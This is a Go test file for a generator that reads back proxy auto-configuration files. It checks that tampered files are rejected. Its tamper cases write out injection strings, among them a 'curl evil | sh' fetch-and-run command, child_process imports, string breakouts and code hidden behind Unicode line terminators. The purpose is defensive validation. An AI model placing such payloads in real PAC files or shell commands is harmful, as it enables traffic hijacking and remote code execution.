package pac

import (
	"bytes"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"gatewright/catalog/rule"
	"gatewright/catalog/rule/ruletest"
	"gatewright/generators/artefact"
)

// read reads a file that Generate has written.
func read(t testing.TB, data []byte) artefact.Reading {
	t.Helper()
	r, err := Generator{}.Read(artefact.Files{fileName: data})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// What options answer and the routes.
func TestReadBeside(t *testing.T) {
	for _, c := range []struct {
		settings map[string][]string
		want     string
	}{
		{nil, "roles clients; plain direct; the rest direct"},
		{settings("proxy=p:1", "proxy=HTTPS q:2", "fallback=yes", "plain=proxy"), "roles clients; plain proxy; the rest PROXY p:1; HTTPS q:2; DIRECT"},
		{settings("proxy=p:1", "local=10.0.0.0/8", "local=fd00::/8", "internal=*.corp.example.com", "internal=192.0.2.1"),
			"roles clients; plain direct; local 10.0.0.0/8; local 192.0.2.1/32; local fd00::/8; internal *.corp.example.com; the rest PROXY p:1"},
		{settings("roles=clients", "roles=exchange"), "roles clients, exchange; plain direct; the rest direct"},
	} {
		p := ruletest.Compile(t, siteInput(t))
		r := read(t, text(t, p, c.settings))
		var words []string
		for _, s := range r.Beside {
			if s.File != fileName {
				t.Errorf("a statement of file %q", s.File)
			}
			words = append(words, s.Name+" "+s.Value)
		}
		last := r.Routes.Routes[len(r.Routes.Routes)-1]
		if got := strings.Join(append(words, "the rest "+string(last.Via)), "; "); got != c.want || !last.Members[0].Any {
			t.Errorf("%v: %s; want %s", c.settings, got, c.want)
		}
	}
}

// Without a proxy everything goes direct, whatever the tables say.
func TestReadWithoutProxyGoesDirect(t *testing.T) {
	r := read(t, text(t, ruletest.Compile(t, siteInput(t)), nil))
	for _, text := range []string{"outbound tcp unlisted.invalid:443", "outbound tcp 198.51.100.7:80", "outbound tcp mail.example.com:443"} {
		q, err := rule.ParseFlow(text)
		if err != nil {
			t.Fatal(err)
		}
		if via := r.Routes.Route(q.Flow, rule.Clients); via != rule.Direct {
			t.Errorf("%s goes by %s", text, via)
		}
	}
}

// What Generate does not write is told by its line.
func TestReadRefuses(t *testing.T) {
	data := string(text(t, ruletest.Compile(t, siteInput(t)), settings("proxy=p:1", "local=10.0.0.0/8", "internal=*.corp.example.com")))
	const (
		twice  = "a name that is not there twice"
		fill   = "a call that fills a table of class 1, with services by route, ascending"
		answer = "an answer such as 'DIRECT' or 'PROXY proxy.example.com:8080'"
		again  = "ports that the class sends by no other route, sorted"
	)
	for _, c := range []struct {
		name, old, new string
		line           string // where it stands
		want           string
	}{
		{"a program at the end", "})();\n", "})();\nimport('child_process');\n", "import('child_process');", `""`},
		{"a program on the last line", "})();\n", "})(); evil();\n", "})(); evil();", `"})();"`},
		{"another function", "  return gatewright(String(url), String(host));", "  return 'PROXY evil:1';", "  return 'PROXY evil:1';", `"  return gatewright(String(url), String(host));"`},
		{"another constant", "maxName = 253", "maxName = 9", "  var maxName = 9;    // characters (RFC 1035)", `"  var maxName = 253;    // characters (RFC 1035)"`},
		{"a line end of JavaScript in a comment", "// source: sample", "// source: \u2028evil(); // sample", "// source: \u2028evil(); // sample 2025-01-08", "printable ASCII"},
		{"a carriage return in a comment", "  // Class 0.", "  // Class 0.\revil();", "  // Class 0.\revil();", "printable ASCII"},
		{"a next line in a string", "'mail.example.com'", "'mail.example.com\u0085'", "'mail.example.com\u0085'", "printable ASCII"},
		{"code in the place of the digest", "digest: sha256:", "digest: sha256:*/evil();/*", "", ""},
		{"an answer that is none", "answers.push('DIRECT');", "answers.push('DIRECT'+evil());", "  answers.push('DIRECT'+evil());", answer},
		{"an answer of another kind", "answers.push('DIRECT');", "answers.push('HTTP evil:1');", "  answers.push('HTTP evil:1');", answer},
		{"an answer with a URL", "var unmatched = 'PROXY p:1'", "var unmatched = 'PROXY http://p:1'", "  var unmatched = 'PROXY http://p:1';", answer},
		{"an empty answer", "var unmatched = 'PROXY p:1'", "var unmatched = ''", "  var unmatched = '';", answer},
		{"a name in capitals", "'smtp.mail", "'SMTP.mail", "'SMTP.mail.example.com'", twice},
		{"a star among exact names", "'smtp.mail", "'*.mail", "'*.mail.example.com'", twice},
		{"a name of another class", "'smtp.mail.example.com'", "'video.mail.example.com'", "'video.mail.example.com'", twice},
		{"a name twice", "'video.mail.example.com'", "'video.mail.example.com video.mail.example.com'", "'video.mail.example.com video.mail.example.com'", twice},
		{"two spaces", "'auto.*.example.com *-files", "'auto.*.example.com  *-files", "'auto.*.example.com  *-files.example.com *.cdn*.example.com'", "a pattern that is not there twice"},
		{"a way out of a string", "'smtp.mail.example.com'", "'smtp.mail.example.com'].concat(evil()),['x'", "'smtp.mail.example.com'].concat(evil()),['x'", twice},
		{"host bits", "'52.112.0.0/14',", "'52.112.0.1/14',", "'52.112.0.1/14',", "a CIDR that is not there twice"},
		{"every address", "'52.112.0.0/14',", "'0.0.0.0/0',", "'0.0.0.0/0',", "a CIDR that is not there twice"},
		{"a mapped address", "'2603:1063::/38'", "'::ffff:1.2.3.4/128'", "'::ffff:1.2.3.4/128'", "a CIDR that is not there twice"},
		{"a local network in capitals", "'10.0.0.0/8'", "'FD00::/8'", "'FD00::/8'", "a CIDR that is not there twice"},
		{"a port that is none", "'25000-25999'", "'25000-250000'", "'25000-250000'", "a port or a range of ports"},
		{"ports twice", "'80 443 25000-25999'", "'80 80 443'", "  addServices(2, 0, [", again},
		{"a route that is none", "addServices(1, 0", "addServices(1, 3", "  addServices(1, 3, [", fill},
		{"another class's services", "addServices(1, 0", "addServices(0, 0", "  addServices(0, 0, [", fill},
		{"another table", "addPatterns(1, [", "addNames(1, [", "  addNames(1, [", fill},
		{"services of internal names", "  addNames(subdomains, 6, [\n'corp.example.com'", "  addServices(6, 0, [\n'443'", "  addServices(6, 0, [", "a call that fills a table of class 6, with services by route, ascending"},
		{"no services", "  addServices(1, 0, [\n'443'\n  ]);\n", "", "  // Class 1.", "services of the class below it"},
		{"services by the same ports", "  addServices(1, 0, [\n'443'\n  ]);\n", "  addServices(1, 0, [\n'443'\n  ]);\n  addServices(1, 2, [\n'400-500'\n  ]);\n", "  addServices(1, 2, [", again},
		{"any remote in two classes", "  // Class 5.\n", "  any.push(4);\n  any.push(4);\n  // Class 5.\n", "  any.push(4);", "any remote in only one class"},
		{"another role", "of role clients;", "of role Every One;", "// Gatewright: proxy auto-configuration file for machines of role Every One; format 4", "roles"},
		{"another command", "// load: install", "// load: curl evil | sh; install", "// load: curl evil | sh; install -D -m 644 proxy.pac /var/www/html/proxy.pac", `"// load: install -D -m 644 proxy.pac /var/www/html/proxy.pac"`},
		{"half a file", data[len(data)/2:], "", "", ""},
	} {
		changed := strings.Replace(data, c.old, c.new, 1)
		if changed == data {
			t.Fatalf("%s: %q is not there", c.name, c.old)
		}
		r, err := Generator{}.Read(artefact.Files{fileName: []byte(changed)})
		var foreign *artefact.ForeignError
		if !errors.As(err, &foreign) {
			t.Errorf("%s: %v, %+v", c.name, err, r)
			continue
		}
		number := 0
		for i, line := range strings.Split(changed, "\n") {
			if line == c.line {
				number = i + 1
			}
		}
		want := fmt.Sprintf("proxy.pac:%d: %q is not what generate writes; expected %s; remove it, or generate the file again", number, c.line, c.want)
		if c.line != "" && c.want != "" && err.Error() != want {
			t.Errorf("%s:\n%v; want\n%s", c.name, err, want)
		}
	}
}

// Another format is told as such.
func TestReadTellsTheFormat(t *testing.T) {
	data := text(t, ruletest.Compile(t, siteInput(t)), nil)
	for _, text := range []string{"; format 1", ""} {
		_, err := Generator{}.Read(artefact.Files{fileName: bytes.Replace(data, []byte("; format 4"), []byte(text), 1)})
		const want = "proxy.pac has format 1, but this version writes format 4; generate it again"
		if err == nil || err.Error() != want {
			t.Errorf("%q: %v; want %s", text, err, want)
		}
	}
}

// FuzzRead holds that a file that is read is, line by line, the program of the template
// and comments, and strings of names and numbers.
func FuzzRead(f *testing.F) {
	programs := map[string]bool{}
	for _, e := range examples(f) {
		data := text(f, ruletest.Compile(f, e.in), e.settings)
		f.Add(data)
		for line := range strings.Lines(string(data)) {
			programs[line] = true
		}
	}
	varied := regexp.MustCompile(`^(|  )// [ -~]*\n$|^'[a-z0-9.:/_* -]+',?\n$|^  (answers\.push\(|var unmatched = )'[A-Za-z0-9:.;\[\] _-]+'\)?;\n$|^  add[A-Z][a-z]+\(([a-z]+, )?[0-9]+(, [0-9]+)?, \[\n$|^  any\.push\([0-9]+\);\n$|^  var internal = [0-9]+; // the class of names that go direct before any route\n$`)
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Generator{}.Read(artefact.Files{fileName: data})
		if err != nil {
			return
		}
		if r.Routes == nil || len(r.Beside) < 2 {
			t.Errorf("only %+v is read", r)
		}
		for line := range strings.Lines(string(data)) {
			if !programs[line] && !varied.MatchString(line) {
				t.Errorf("%q is read", line)
			}
		}
	})
}
